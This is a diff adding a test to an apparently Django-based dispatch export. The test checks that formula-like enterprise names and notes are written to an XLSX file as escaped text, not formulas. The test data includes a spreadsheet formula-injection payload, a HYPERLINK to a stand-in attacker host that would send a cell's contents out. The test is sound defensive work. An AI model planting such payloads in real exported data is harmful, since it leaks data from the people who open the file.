@@ -192,3 +192,23 @@ def test_a_dispatch_whose_clocks_reach_an_unloaded_year_is_built_on_the_provisio
     assert Dispatch.objects.count() == 2
     late_permit = DispatchItem.objects.get(project=key_projects[1]).overdue
     assert "建筑工程施工许可证" in late_permit
+
+
+def test_the_dispatch_xlsx_writes_formula_like_names_and_notes_as_text(client, key_projects, coordinators):
+    moved = key_projects[0]
+    moved.enterprise.name = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
+    moved.enterprise.save()
+    services.dispatch_build(week_start=WEEK, now=at("2023-03-13", 7))
+    DispatchItem.objects.filter(project=moved).update(note="=1+1", resolution="-2+3")
+    Dispatch.objects.filter(coordinator=coordinators[0]).update(note="@SUM(A1:A9)")
+    client.force_login(StaffFactory())
+
+    download = client.get(reverse("projects:dispatch_xlsx"), {"week": WEEK.isoformat()})
+
+    sheet = load_workbook(io.BytesIO(download.content))["王科长"]
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    values = {c.value for c in cells}
+    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"点此查看")' in values
+    assert {"'=1+1", "'-2+3", "'@SUM(A1:A9)"} <= values
+    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
